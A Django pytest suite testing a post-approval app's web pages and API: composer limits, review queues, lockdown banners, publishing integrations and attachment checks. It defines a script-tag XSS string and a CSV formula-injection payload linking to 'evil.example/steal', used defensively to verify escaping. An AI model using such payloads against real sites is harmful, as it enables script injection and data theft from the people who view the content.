"""The pages and the API, end to end through HTTP."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from approvals import services
from approvals.choices import PostState
from approvals.tests.factories import approve_all, draft, join, open_stage, submitted
from channels_registry.models import ChannelActivity
from notifications.models import Notification
from notifications.services import notification_deliver_email

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/steal","Click")'
HOSTILE = f"{FORMULA} {SCRIPT}"


# --- Compose ----------------------------------------------------------------------------------


def test_the_composer_shows_the_count_against_the_limit_without_javascript(client, employee, channel):
    client.force_login(employee)
    response = client.get(reverse("approvals:post_create"))
    assert response.status_code == 200
    assert "0 / 280 characters" in response.content.decode()


def test_the_composer_refuses_at_submit_what_does_not_fit(client, employee, channel):
    client.force_login(employee)
    response = client.post(
        reverse("approvals:post_create"), {"channel": channel.pk, "body": "x" * 300, "submit": "1"}, follow=True
    )
    # the draft is kept, once, and its page says why it was not sent
    post = employee.posts.get()
    assert post.state == PostState.DRAFT
    assert response.redirect_chain[-1][0] == reverse("approvals:post_edit", args=[post.pk])
    page = response.content.decode()
    assert "300 / 280 characters" in page
    assert "X (Twitter) allows 280" in page


def test_save_and_submit_from_the_composer(client, employee, channel):
    client.force_login(employee)
    response = client.post(reverse("approvals:post_create"), {"channel": channel.pk, "body": "Hello", "submit": "1"})
    post = employee.posts.get()
    assert response.status_code == 302
    assert post.state == PostState.IN_REVIEW


def test_the_composer_lists_the_author_blockers_with_their_links(client, api_client, employee, channel, monkeypatch):
    from policies import gates

    blockers = [gates.Blocker("Acknowledge the social media policy.", "/policies/ack/")]
    monkeypatch.setattr(gates, "author_blockers", lambda **kwargs: blockers)
    client.force_login(employee)
    page = client.get(reverse("approvals:post_create")).content.decode()
    assert "Acknowledge the social media policy." in page and 'href="/policies/ack/"' in page
    response = client.post(reverse("approvals:post_create"), {"channel": channel.pk, "body": "Hi"})
    assert response.status_code == 403

    api_client.force_authenticate(employee)
    response = api_client.post("/api/v1/posts/", {"channel": channel.pk, "body": "Hi"}, format="json")
    assert response.status_code == 403
    assert response.json()["fields"]["reasons"] == ["Acknowledge the social media policy. (/policies/ack/)"]


def test_an_attachment_through_the_api_is_checked_by_its_content(api_client, employee, channel):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from approvals.tests.factories import PNG

    api_client.force_authenticate(employee)
    ok = api_client.post(
        "/api/v1/posts/",
        {"channel": channel.pk, "body": "Photo", "attachments": [SimpleUploadedFile("a.jpg", PNG)]},
        format="multipart",
    )
    assert ok.status_code == 201
    assert employee.posts.get().attachments.get().content_type == "image/png"
    bad = api_client.post(
        "/api/v1/posts/",
        {"channel": channel.pk, "body": "Exe", "attachments": [SimpleUploadedFile("a.png", b"MZ\x90\x00evil")]},
        format="multipart",
    )
    assert bad.status_code == 400
    assert "attachments" in bad.json()["fields"]


# --- Reading --------------------------------------------------------------------------------------


def test_reviewers_see_the_diff_between_revisions_escaped(client, employee, channel, reviewer):
    post = draft(employee, channel, body="Ships today.")
    services.post_update(actor=employee, post=post, body=f"Ships tomorrow. {SCRIPT}")
    services.post_submit(actor=employee, post=post)
    client.force_login(reviewer)
    page = client.get(reverse("approvals:post_detail", args=[post.pk]) + "?from=1&to=2").content.decode()
    assert "<del>today.</del>" in page
    assert "<ins>tomorrow. &lt;script&gt;" in page
    assert SCRIPT not in page
    assert "&lt;script&gt;" in page


def test_hostile_text_shows_as_text_on_every_page_email_and_export(
    client, employee, channel, reviewer, communications, django_capture_on_commit_callbacks
):
    # given a post and a comment with a script and a spreadsheet formula
    with django_capture_on_commit_callbacks(execute=True):
        post = submitted(employee, channel, body=HOSTILE)
        services.comment_add(actor=employee, post=post, body=f"@reviewer@example.com {HOSTILE}")

    # then every page shows them as text
    client.force_login(reviewer)
    for url in (
        reverse("approvals:post_detail", args=[post.pk]),
        reverse("approvals:queue"),
        reverse("approvals:scheduled"),
        "/notifications/",
    ):
        page = client.get(url).content.decode()
        assert SCRIPT not in page, url
    client.force_login(employee)
    page = client.get(reverse("approvals:my_posts")).content.decode()
    assert SCRIPT not in page and "&lt;script&gt;" in page

    # and e-mails: the HTML part escapes it
    for n in Notification.objects.filter(recipient=reviewer):
        notification_deliver_email(n.pk)
    assert mail.outbox
    for message in mail.outbox:
        html = message.alternatives[0][0]
        assert SCRIPT not in html
    assert any("&lt;script&gt;" in m.alternatives[0][0] for m in mail.outbox)

    # and the export neutralises the formula
    response = client.get(reverse("approvals:export"))
    body = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK" in body
    assert ",=HYPERLINK" not in body


def test_the_lockdown_banner_shows_on_every_page(client, employee, channel, communications):
    services.lockdown_start(actor=communications, reason=f"Statement pending {SCRIPT}")
    client.force_login(employee)
    for url in ("/", reverse("approvals:my_posts"), reverse("channels_registry:channel_list")):
        page = client.get(url).content.decode()
        assert "Lockdown: publishing is paused for everything." in page, url
        assert SCRIPT not in page


BANNER = "Lockdown: publishing is paused for"


def test_the_banner_follows_a_lockdown_at_once_though_kept_in_the_cache(
    client, employee, communications, django_capture_on_commit_callbacks
):
    # given a page seen before any lockdown (the empty banner is now in the cache)
    client.force_login(employee)
    assert BANNER not in client.get(reverse("approvals:my_posts")).content.decode()

    # when a lockdown starts, the very next page shows it
    with django_capture_on_commit_callbacks(execute=True):
        lockdown = services.lockdown_start(actor=communications, reason="Statement pending")
    assert BANNER in client.get(reverse("approvals:my_posts")).content.decode()

    # and when it ends, the very next page no longer does
    with django_capture_on_commit_callbacks(execute=True):
        services.lockdown_end(actor=communications, lockdown=lockdown)
    assert BANNER not in client.get(reverse("approvals:my_posts")).content.decode()


def test_the_banner_leaves_at_a_lockdowns_end_time_without_waiting_for_the_task(
    client, employee, communications, django_capture_on_commit_callbacks
):
    import time_machine

    # given a lockdown ending in ten seconds, shown (and kept) by a page
    ends = timezone.now() + timedelta(seconds=10)
    with django_capture_on_commit_callbacks(execute=True):
        services.lockdown_start(actor=communications, reason="Short pause", ends_at=ends)
    client.force_login(employee)
    assert BANNER in client.get(reverse("approvals:my_posts")).content.decode()

    # when its end time passes (the automatic end has not run yet)
    with time_machine.travel(ends + timedelta(seconds=1)):
        page = client.get(reverse("approvals:my_posts")).content.decode()

    # then the banner is gone: its end time bounded the cache
    assert BANNER not in page


def test_the_post_pages_lockdown_notice_and_history_follow_a_change_at_once_though_kept(
    client, employee, channel, reviewer, communications, django_capture_on_commit_callbacks
):
    # given a post page seen once (its history and the lockdowns in force are now kept in the cache)
    post = submitted(employee, channel)
    url = reverse("approvals:post_detail", args=[post.pk])
    client.force_login(reviewer)
    page = client.get(url).content.decode()
    assert "Publishing on this channel is paused" not in page and "post.commented" not in page

    # when a lockdown of the channel starts and a comment is added
    with django_capture_on_commit_callbacks(execute=True):
        services.lockdown_start(actor=communications, scope="channel", channel=channel, reason=f"Hold {SCRIPT}")
    with django_capture_on_commit_callbacks(execute=True):
        services.comment_add(actor=employee, post=post, body="One more thing")

    # then the very next view shows both, escaped
    page = client.get(url).content.decode()
    assert "Publishing on this channel is paused: Hold &lt;script&gt;" in page and SCRIPT not in page
    assert f"<strong>{employee.email} commented on the post</strong>" in page and "One more thing" in page

    # and a decision, the very next view too
    with django_capture_on_commit_callbacks(execute=True):
        services.stage_decide(actor=reviewer, stage_review=open_stage(post), outcome="approve")
    page = client.get(url).content.decode()
    assert "Approved by" in page and f"<strong>{reviewer.email} approved the " in page


@pytest.mark.parametrize("name", ["queue", "post_detail"])
def test_a_page_loses_the_banner_and_notice_at_a_lockdowns_end_time(
    client, employee, channel, reviewer, communications, django_capture_on_commit_callbacks, name
):
    import time_machine

    # given a lockdown of the channel ending in ten seconds, shown by the page (and kept for the banner)
    post = submitted(employee, channel)
    url = reverse(f"approvals:{name}", args=[post.pk] if name == "post_detail" else [])
    ends = timezone.now() + timedelta(seconds=10)
    with django_capture_on_commit_callbacks(execute=True):
        services.lockdown_start(actor=communications, scope="channel", channel=channel, reason="Short", ends_at=ends)
    client.force_login(reviewer)
    page = client.get(url).content.decode()
    assert BANNER in page and (name == "queue" or "Publishing on this channel is paused: Short" in page)

    # when its end time passes, nothing written in between (the automatic end has not run yet)
    with time_machine.travel(ends + timedelta(seconds=1)):
        page = client.get(url).content.decode()

    # then the page no longer shows them
    assert BANNER not in page and "Publishing on this channel is paused" not in page


def test_a_reviewer_decides_inline_from_the_queue(client, employee, channel, reviewer):
    post = submitted(employee, channel)
    client.force_login(reviewer)
    queue = reverse("approvals:queue")
    response = client.post(
        reverse("approvals:stage_decide", args=[open_stage(post).pk]),
        {"outcome": "request_changes", "comment": "", "next": queue},
    )
    assert response.status_code == 302 and response["Location"] == queue
    post.refresh_from_db()
    assert post.state == PostState.IN_REVIEW  # no comment: refused with a message
    client.post(
        reverse("approvals:stage_decide", args=[open_stage(post).pk]),
        {"outcome": "request_changes", "comment": "Shorter, please.", "next": queue},
    )
    post.refresh_from_db()
    assert post.state == PostState.CHANGES_REQUESTED


def test_the_queue_filters_overdue_stages(client, employee, channel, reviewer):
    post = submitted(employee, channel)
    client.force_login(reviewer)
    assert len(client.get(reverse("approvals:queue") + "?overdue=true").context["page"].object_list) == 0
    stage = open_stage(post)
    stage.due_at = timezone.now() - timedelta(hours=1)
    stage.save()
    response = client.get(reverse("approvals:queue") + "?overdue=true")
    assert len(response.context["page"].object_list) == 1
    assert "overdue" in response.content.decode()


# --- The integration flow over the API ----------------------------------------------------------


def test_an_integration_lists_what_is_due_and_reports_what_went_out(
    token_client, employee, channel, reviewer, communications
):
    # given an approved post, released by the task, and an integration acting as the channel's publisher
    publisher = join(channel, __import__("accounts.tests.factories", fromlist=["UserFactory"]).UserFactory())
    post = approve_all(submitted(employee, channel), reviewer, communications)
    services.release_due()
    integration = token_client(publisher, "write")

    # when it lists what is due
    due = integration.get("/api/v1/posts/due/").json()["results"]
    assert [p["id"] for p in due] == [post.pk]

    # and reports the publication
    response = integration.post(
        f"/api/v1/posts/{post.pk}/published/",
        {"url": "https://x.com/acme/status/1", "published_at": timezone.now().isoformat()},
        format="json",
    )

    # then the post is published, off the due list, and the channel has fresh activity
    assert response.status_code == 201, response.json()
    assert response.json()["post_state"] == "published"
    assert [f["kind"] for f in response.json()["findings"]] == ["no_receipt"]
    assert integration.get("/api/v1/posts/due/").json()["results"] == []
    activity = ChannelActivity.objects.get(channel=channel)
    assert activity.kind == "post" and activity.source == "publishing"
    channel.refresh_from_db()
    assert channel.last_activity_at is not None


def test_release_during_a_lockdown_answers_409_and_a_publication_is_a_finding(
    api_client, employee, channel, reviewer, communications, it_security
):
    post = approve_all(submitted(employee, channel), reviewer, communications)
    services.lockdown_start(actor=communications, scope="channel", channel=channel, reason="Crisis: hold everything.")
    api_client.force_authenticate(it_security)
    assert api_client.get("/api/v1/posts/due/").json()["results"] == []
    response = api_client.post(f"/api/v1/posts/{post.pk}/release/", {}, format="json")
    assert response.status_code == 409
    assert response.json()["code"] == "lockdown"
    assert "Crisis: hold everything." in response.json()["detail"]
    post.refresh_from_db()
    assert post.state == PostState.APPROVED
    # what went out anyway is recorded, as published during the lockdown
    receipt = api_client.get(f"/api/v1/posts/{post.pk}/receipt/").json()["token"]
    response = api_client.post(f"/api/v1/posts/{post.pk}/published/", {"receipt": receipt}, format="json")
    assert response.status_code == 201
    assert [f["kind"] for f in response.json()["findings"]] == ["during_lockdown"]
    assert "Crisis: hold everything." in response.json()["findings"][0]["detail"]


def test_the_api_flow_from_draft_to_approved(api_client, employee, channel, reviewer, communications, superuser):
    api_client.force_authenticate(employee)
    created = api_client.post("/api/v1/posts/", {"channel": channel.pk, "body": "Hello", "tags": ["#Launch"]}).json()
    assert created["tags"] == ["launch"]
    assert api_client.post(f"/api/v1/posts/{created['id']}/submit/").json()["state"] == "in_review"
    # the author may not decide
    assert api_client.post(f"/api/v1/posts/{created['id']}/decide/", {"outcome": "approve"}).status_code == 403
    for person in (reviewer, communications):
        api_client.force_authenticate(person)
        queue = api_client.get("/api/v1/reviews/").json()["results"]
        assert [r["post"]["id"] for r in queue] == [created["id"]]
        assert api_client.post(f"/api/v1/posts/{created['id']}/decide/", {"outcome": "approve"}).status_code == 200
    api_client.force_authenticate(employee)
    assert api_client.get(f"/api/v1/posts/{created['id']}/").json()["state"] == "approved"
    revisions = api_client.get(f"/api/v1/posts/{created['id']}/revisions/").json()
    assert [r["number"] for r in revisions] == [1]


def test_a_reject_without_a_comment_is_a_400(api_client, employee, channel, reviewer):
    post = submitted(employee, channel)
    api_client.force_authenticate(reviewer)
    response = api_client.post(f"/api/v1/posts/{post.pk}/decide/", {"outcome": "reject"})
    assert response.status_code == 400
    assert "comment" in response.json()["fields"]


def test_a_superuser_cannot_approve_their_own_post_over_the_api(api_client, superuser, department):
    from accounts.tests.factories import add_member
    from approvals.tests.factories import channel_for

    add_member(superuser, department, "manager")
    post = submitted(superuser, channel_for(superuser, department=department))
    api_client.force_authenticate(superuser)
    response = api_client.post(f"/api/v1/posts/{post.pk}/decide/", {"outcome": "approve"})
    assert response.status_code == 403
    assert "own post" in response.json()["detail"]
    assert open_stage(post).approvals == 0


def test_drafts_are_hidden_from_the_department_reviewers_until_submitted(client, employee, channel, reviewer):
    post = draft(employee, channel)
    client.force_login(reviewer)
    assert client.get(reverse("approvals:post_detail", args=[post.pk])).status_code == 404
    services.post_submit(actor=employee, post=post)
    assert client.get(reverse("approvals:post_detail", args=[post.pk])).status_code == 200


def test_an_attachment_is_served_with_its_checked_type_to_those_who_see_the_post(client, employee, channel, reviewer):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from approvals.tests.factories import PDF

    post = submitted(employee, channel, attachments=[SimpleUploadedFile("flyer.html", PDF)])
    client.force_login(reviewer)
    response = client.get(reverse("approvals:attachment", args=[post.attachments.get().pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "attachment" in response["Content-Disposition"]
    assert b"".join(response.streaming_content).startswith(b"%PDF-")


def test_a_publisher_releases_a_due_post_now_once(api_client, employee, channel, reviewer, communications, hook_due):
    from accounts.tests.factories import UserFactory
    from notifications.models import WebhookDelivery

    publisher = join(channel, UserFactory())
    post = approve_all(submitted(employee, channel), reviewer, communications)
    api_client.force_authenticate(publisher)
    for _ in range(2):
        response = api_client.post(f"/api/v1/posts/{post.pk}/release/")
        assert response.status_code == 200
        assert response.json()["released_at"] is not None
    assert WebhookDelivery.objects.filter(event="post.due").count() == 1
    assert services.release_due()["released"] == 0


@pytest.fixture
def hook_due(db):
    from notifications.models import WebhookEndpoint

    return WebhookEndpoint.objects.create(name="tool", url="https://tool.example.com/hook", events=["post.due"])


def test_a_manager_adds_a_stage_with_named_reviewers_on_the_routes_page(client, manager, department, employee, channel):
    from approvals.models import RouteStage

    client.force_login(manager)
    response = client.post(
        reverse("approvals:routes"),
        {
            "department": department.pk,
            "name": "Legal check",
            "users": "reviewer2@example.com",
            "mode": "any",
            "required": 1,
            "sla_hours": 4,
            "escalate_to": "manager@example.com",
        },
    )
    assert response.status_code == 200  # nobody signs in as reviewer2 yet: the form says so
    from accounts.tests.factories import UserFactory

    legal = UserFactory(email="reviewer2@example.com")
    response = client.post(
        reverse("approvals:routes"),
        {
            "department": department.pk,
            "name": "Legal check",
            "users": "reviewer2@example.com",
            "mode": "any",
            "required": 1,
            "sla_hours": 4,
            "escalate_to": "manager@example.com",
        },
    )
    assert response.status_code == 302
    stage = RouteStage.objects.get(name="Legal check")
    assert list(stage.users.all()) == [legal] and stage.escalate_to == manager and stage.position == 3
    post = submitted(employee, channel)
    assert list(post.stage_reviews.values_list("name", flat=True)) == [
        "Department review",
        "Brand review",
        "Legal check",
    ]


def test_review_blockers_refuse_decisions_and_the_queue_lists_them(
    client, api_client, employee, channel, reviewer, monkeypatch
):
    from policies import gates

    post = submitted(employee, channel)
    monkeypatch.setattr(
        gates, "review_blockers", lambda **kwargs: [gates.Blocker("Complete the reviewer training.", "/training/")]
    )
    client.force_login(reviewer)
    page = client.get(reverse("approvals:queue")).content.decode()
    assert "Complete the reviewer training." in page and 'href="/training/"' in page
    api_client.force_authenticate(reviewer)
    response = api_client.post(f"/api/v1/posts/{post.pk}/decide/", {"outcome": "approve"})
    assert response.status_code == 403
    assert response.json()["fields"]["reasons"] == ["Complete the reviewer training. (/training/)"]
    assert open_stage(post).approvals == 0
